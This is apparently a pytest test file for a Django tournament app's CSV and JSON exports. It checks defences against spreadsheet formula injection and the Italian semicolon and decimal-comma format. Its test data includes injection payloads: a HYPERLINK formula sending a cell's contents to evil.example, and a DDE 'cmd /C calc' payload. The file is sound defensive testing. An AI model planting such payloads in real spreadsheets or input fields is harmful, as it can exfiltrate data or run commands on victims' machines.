"""The organiser's downloads: CSV without formulas (OWASP CSV injection), the Italian spreadsheet
format (semicolon, decimal comma) and the tournament as JSON, the same document as export_tournament."""
import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from tables.standings.export_views import SafeCsvWriter
from tests.factories import ClubFactory, RegistrationFactory, report, seat_round
from tests.html import one, text, tr

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3", "\tTab", "\rReturn"]


@pytest.fixture
def hostile(tournament, organiser):
    """One table of 4 whose players and clubs are named like spreadsheet formulas."""
    people = [(HOSTILE[0], "Rossi", "=1+1"), (HOSTILE[1], "Bianchi", HOSTILE[4]),
              (HOSTILE[2], "Verdi", HOSTILE[5]), (HOSTILE[3], "Neri", "Club -1")]
    regs = [RegistrationFactory(tournament=tournament, player__first_name=f, player__last_name=l,
                                player__club=ClubFactory(name=c), player__nickname="") for f, l, c in people]
    rnd = seat_round(tournament, [regs])
    report(rnd.tables.get(), [(Decimal("60.5"),), (40,), (30,), (0, 1)])
    return tournament


def _rows(client, name, tournament, delimiter=None, **params):
    response = client.get(reverse(f"manage:{name}", args=[tournament.pk]), params)
    assert response.status_code == 200
    exported = response.content.decode("utf-8-sig")
    delimiter = delimiter or (";" if params.get("format") == "excel-it" else ",")
    return list(csv.reader(io.StringIO(exported, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("name", ["standings_csv", "results_csv"])
def test_no_cell_of_a_csv_export_starts_like_a_formula(client_for, organiser, hostile, name):
    rows = _rows(client_for(organiser), name, hostile, format="csv")
    text_cells = [cell for row in rows[1:] for cell in row]
    assert "'=1+1" in text_cells
    assert not [cell for cell in text_cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    names = {cell for cell in text_cells if cell.endswith(("Rossi", "Bianchi", "Verdi", "Neri"))}
    assert names == {f"'{HOSTILE[0]} Rossi", f"'{HOSTILE[1]} Bianchi", f"'{HOSTILE[2]} Verdi",
                     f"'{HOSTILE[3]} Neri"}
    clubs = {cell for cell in text_cells if cell in ("'=1+1", "'\tTab", "'\rReturn") or "Club" in cell}
    assert clubs == {"'=1+1", "'\tTab", "'\rReturn", "Club -1"}


@pytest.mark.parametrize("fmt", ["csv", "excel-it"])
@pytest.mark.parametrize("name", ["standings_csv", "results_csv"])
def test_a_name_holding_the_other_formats_separator_never_splits_into_a_formula(client_for, organiser, tournament,
                                                                               fmt, name):
    """A spreadsheet opening the comma file with semicolons (or the other way round) splits such a name:
    no cell read any way starts like a formula, and read with its own separator each text is one cell."""
    people = [("Mario;=1+1", "Rossi", "Club;@SUM(1)"), ("Anna,=2+2", "Bianchi", "Club,+3"),
              ("Ugo\t=3+3", "Verdi", "Club"), ("Eva", "Neri", 'Club "X";-1')]
    regs = [RegistrationFactory(tournament=tournament, player__first_name=f, player__last_name=l,
                                player__club=ClubFactory(name=c), player__nickname="") for f, l, c in people]
    report(seat_round(tournament, [regs]).tables.get(), [(60,), (40,), (30,), (0, 1)])
    for delimiter in (",", ";", "\t"):
        cells = [cell for row in _rows(client_for(organiser), name, tournament, delimiter=delimiter, format=fmt)[1:]
                 for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    cells = [cell for row in _rows(client_for(organiser), name, tournament, format=fmt)[1:] for cell in row]
    assert {"Mario;'=1+1 Rossi", "Anna,'=2+2 Bianchi", "Ugo\t'=3+3 Verdi", "Club;'@SUM(1)", "Club,'+3",
            'Club "X";\'-1'} <= set(cells)   # read with its own separator: each text whole, one apostrophe more


@pytest.mark.parametrize("fmt, value, expected", [
    ("csv", Decimal("-10.50"), "-10.50"), ("excel-it", Decimal("-10.50"), "-10,50"), ("csv", 3, 3),
    ("csv", None, ""), ("csv", True, 1), ("csv", "-10.50", "'-10.50"), ("csv", "Rossi", "Rossi"),
])
def test_numbers_are_numbers_and_text_is_text(fmt, value, expected):
    assert SafeCsvWriter(io.StringIO(), fmt).cell(value) == expected


def test_italian_spreadsheet_format_uses_semicolons_and_decimal_commas(client_for, organiser, hostile):
    client = client_for(organiser)
    results = _rows(client, "results_csv", hostile, format="excel-it")
    assert results[1][:6] == ["1", "1", "1", f"'{HOSTILE[0]} Rossi", "'=1+1", "60,50"]
    standings = _rows(client, "standings_csv", hostile, format="excel-it")
    assert standings[0][:5] == [tr(w) for w in ("Rank", "Player", "Club", "Total", "Wins")]
    assert all("," in row[3] and "." not in row[3] for row in standings[1:])


def test_italian_is_the_default_format_of_the_italian_interface(client_for, organiser, hostile, settings):
    settings.LANGUAGE_CODE = "it"
    client = client_for(organiser)
    italian = [tr(w, "it") for w in ("Round", "Table", "Seat")]
    assert italian != ["Round", "Table", "Seat"]   # the Italian catalogue's words, not the English ones
    assert _rows(client, "results_csv", hostile, delimiter=";")[0][:3] == italian
    assert _rows(client, "results_csv", hostile, format="csv")[0][:3] == italian
    rows = _rows(client, "standings_csv", hostile, delimiter=";")
    assert rows[0][:4] == [tr(w, "it") for w in ("Rank", "Player", "Club", "Total")]
    assert all("," in row[3] and "." not in row[3] for row in rows[1:])


def test_tournament_json_is_the_export_command_document(client_for, organiser, hostile):
    client = client_for(organiser)
    page = client.get(reverse("manage:tournament", args=[hostile.pk]))
    url = reverse("manage:tournament_json", args=[hostile.pk])
    assert text(one(page, f"a[href='{url}']")) == tr("Download tournament (JSON)")
    response = client.get(url)
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="torneo-{hostile.pk}.json"'
    downloaded = json.loads(response.content)
    out = io.StringIO()
    call_command("export_tournament", hostile.pk, stdout=out)
    printed = json.loads(out.getvalue())
    assert downloaded.pop("exported_at") and printed.pop("exported_at")
    assert downloaded == printed
    assert downloaded["tournament"] == hostile.pk
